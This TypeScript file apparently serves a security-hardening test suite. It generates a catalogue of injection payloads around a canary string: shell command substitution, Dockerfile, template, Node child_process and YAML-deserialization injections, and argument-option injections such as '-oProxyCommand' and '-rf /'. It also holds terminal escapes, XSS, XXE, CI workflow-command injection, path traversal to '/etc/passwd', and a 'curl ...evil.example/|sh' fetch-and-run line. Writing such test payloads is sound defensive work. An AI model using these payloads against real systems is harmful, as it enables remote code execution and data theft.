/** Every payload names this: as a file, a process or a host it would be seen. */
export const CANARY = 'hardencanary7';

const FILE = `/tmp/${CANARY}`;
const HOST = `${CANARY}.evil.example`;
const ESC = '\u001b';

/** What runs where a text becomes part of a command: it leaves a file, starts a program, asks for a name. */
export const COMMANDS = [
  ...[`touch ${FILE}`, `id>${FILE}`, `nslookup ${HOST}`, `curl http://${HOST}/|sh`],
  ...[`${CANARY} & wait`, `node -e 0 ${HOST}`, `ln -s / ${FILE}`, `getent hosts ${HOST}`],
];

/** How each kind of shell and template takes a command out of a text. */
const SHELLS: ((command: string) => string)[] = [
  (run) => `$(${run})`,
  (run) => `\`${run}\``,
  (run) => `;${run};`,
  (run) => `a && ${run}`,
  (run) => `a || ${run}`,
  (run) => `a | ${run}`,
  (run) => `a & ${run} &`,
  (run) => `a\n${run}\n`,
  (run) => `a\r\n${run}\r\n`,
  (run) => `"; ${run}; "`,
  (run) => `'; ${run}; '`,
  (run) => `\\"; ${run} #`,
  (run) => `" $(${run}) "`,
  (run) => `' $(${run}) '`,
  (run) => `<(${run})`,
  (run) => `>(${run})`,
  (run) => `<<EOF\n${run}\nEOF\n`,
  (run) => `() { :;}; ${run}`,
  (run) => `$'\\n${run}'`,
  (run) => `\${IFS}$(${run})`,
  (run) => `\${x:-$(${run})}`,
  (run) => `%0a${run}`,
  (run) => `^& ${run}`,
  (run) => `%COMSPEC% /c ${run}`,
  (run) => `$(Start-Process ${run})`,
  (run) => `{{${run}}}`,
  (run) => `\${{ ${run} }}`,
  (run) => `{% ${run} %}`,
  (run) => `#{\`${run}\`}`,
  (run) => `<%= \`${run}\` %>`,
  (run) => `@(${run})`,
  (run) => `\nRUN ${run}\n`,
  (run) => `x\nRUN --mount=type=secret,id=a ${run}\nENV y=`,
  (run) => `x \\\nRUN ${run}`,
  (run) => `"]\nRUN ${run}\nCMD ["`,
  (run) => `"\nUSER root\nRUN ${run} #`,
  (run) => `<<A\n${run}\nA`,
  (run) => `"],"run":["sh","-c","${run}`,
  (run) => `"});process.mainModule.require("child_process").execSync("${run}");({"`,
  (run) => `\`+require('child_process').execSync('${run}')+\``,
  (run) => `\${require('child_process').execSync('${run}')}`,
  (run) => `')).withExec(['sh','-c','${run}']);//`,
  (run) => `"){container{from(address:"a"){withExec(args:["sh","-c","${run}"])}}}#`,
  (run) => `\\u0022){withExec(args:[\\u0022${run}\\u0022])}`,
  (run) => `" | @sh "${run}" | "`,
  (run) => `"; input | ${run}; "`,
  (run) => `!!python/object/apply:os.system ["${run}"]`,
  (run) => `a: b\n- run: ["sh", "-c", "${run}"]`,
  (run) => `*a\n&b ${run}`,
  (run) => `=cmd|'/c ${run}'!A1`,
  (run) => `+${run}`,
  (run) => `@SUM(1+1)*cmd|' /C ${run}'!A0`,
];

/** What a program takes for an option, where a text begins with it. */
const OPTIONS = [
  ...[
    `-o${FILE}`,
    `--output=${FILE}`,
    `-exec touch ${FILE} ;`,
    `--use-compress-program=touch ${FILE}`,
  ],
  ...[
    `--upload-pack=touch ${FILE}`,
    `-oProxyCommand=touch ${FILE}`,
    `--config=${FILE}`,
    '--privileged',
  ],
  ...[
    `--config-env=a=${CANARY}`,
    `-c core.pager=touch ${FILE}`,
    `--privileged`,
    `--host=${HOST}`,
    '-',
    '--',
  ],
  ...[
    `--mount=type=bind,from=host,target=${FILE}`,
    `--checkpoint-action=exec=touch ${FILE}`,
    '-rf /',
    '-v',
  ],
  ...[
    `--cache-dir=${FILE}`,
    `--skip-db-update`,
    `--ignorefile=${FILE}`,
    `--template=@${FILE}`,
    '-h',
    '--help',
  ],
];

/** What acts where it is only to be read. */
const TEXTS = [
  ...[
    `${ESC}[2J${CANARY}`,
    `${ESC}]8;;http://${HOST}${ESC}\\x${ESC}]8;;${ESC}\\`,
    `${ESC}]0;${CANARY}\u0007`,
  ],
  ...[
    `${ESC}[31;5m${CANARY}`,
    `\u009b2J${CANARY}`,
    `${CANARY}\b\b\b\b`,
    `\r${CANARY}`,
    `a\u0000${CANARY}`,
  ],
  ...[
    `${ESC}P${CANARY}${ESC}\\`,
    `${ESC}]52;c;${CANARY}\u0007`,
    `\u202e${CANARY}`,
    `\u2066${CANARY}\u2069`,
  ],
  ...[`<script>${CANARY}()</script>`, `"><img src=x onerror=${CANARY}()>`, `' onload='${CANARY}()`],
  ...[
    `</style><svg onload=${CANARY}()>`,
    `<!--${CANARY}-->`,
    `]]><a xmlns="${HOST}">`,
    `<iframe src="//${HOST}">`,
  ],
  ...[
    `<!DOCTYPE a [<!ENTITY b SYSTEM "http://${HOST}">]>&b;`,
    `javascript:${CANARY}()`,
    `&#60;script&#62;`,
  ],
  ...[
    `[x](javascript:${CANARY}())`,
    `![x](http://${HOST}/x.png)`,
    `| ${CANARY} | <br>`,
    `\`\`\`\n${CANARY}`,
  ],
  ...[
    `\n::set-output name=a::${CANARY}`,
    `::error::${CANARY}`,
    `\n::add-path::${FILE}`,
    `::stop-commands::x`,
  ],
  ...[
    `\n##vso[task.setvariable variable=a]${CANARY}`,
    `##[command]${CANARY}`,
    `\nsection_start:1:${CANARY}\r`,
  ],
  ...[
    `::group::${CANARY}`,
    `%0A::error::${CANARY}`,
    `\n::add-mask::a`,
    `::save-state name=a::${CANARY}`,
  ],
  ...[
    `../../../../${FILE}`,
    `/etc/passwd`,
    `..\\..\\${CANARY}`,
    `file://${FILE}`,
    `~/${CANARY}`,
    `$HOME/${CANARY}`,
  ],
  ...[
    `%2e%2e%2f${CANARY}`,
    `....//....//${CANARY}`,
    `/proc/self/environ`,
    `C:\\${CANARY}`,
    `\\\\${HOST}\\a`,
  ],
  ...[
    `http://${HOST}/`,
    `http://127.0.0.1@${HOST}/`,
    `//${HOST}/a`,
    `${HOST}:80/a`,
    `${HOST}/a:b@sha256:c`,
  ],
  ...[
    '$HOME',
    `\${HOME}`,
    '%PATH%',
    '$$',
    '$0',
    '${',
    '{{',
    '{{.}}',
    `$\u007b{ inputs.x }}`,
    `$\u007b{ secrets.A }}`,
  ],
  ...[
    "'",
    '"',
    '`',
    '\\',
    '\\\\',
    "'\\''",
    '\n',
    '\r',
    '\t',
    '\u2028',
    '\ud800',
    '*',
    '?',
    '[a-z]',
    '!',
    '#',
  ],
  ...[
    '{"a":1}',
    '[]',
    'null',
    'true',
    '1e999',
    '__proto__',
    'constructor',
    '<<: *a',
    '? a',
    '- a',
    '%s%n%x',
  ],
];

/** All payloads, each once. */
export const PAYLOADS: string[] = [
  ...new Set([...SHELLS.flatMap((wrap) => COMMANDS.map(wrap)), ...OPTIONS, ...TEXTS]),
];
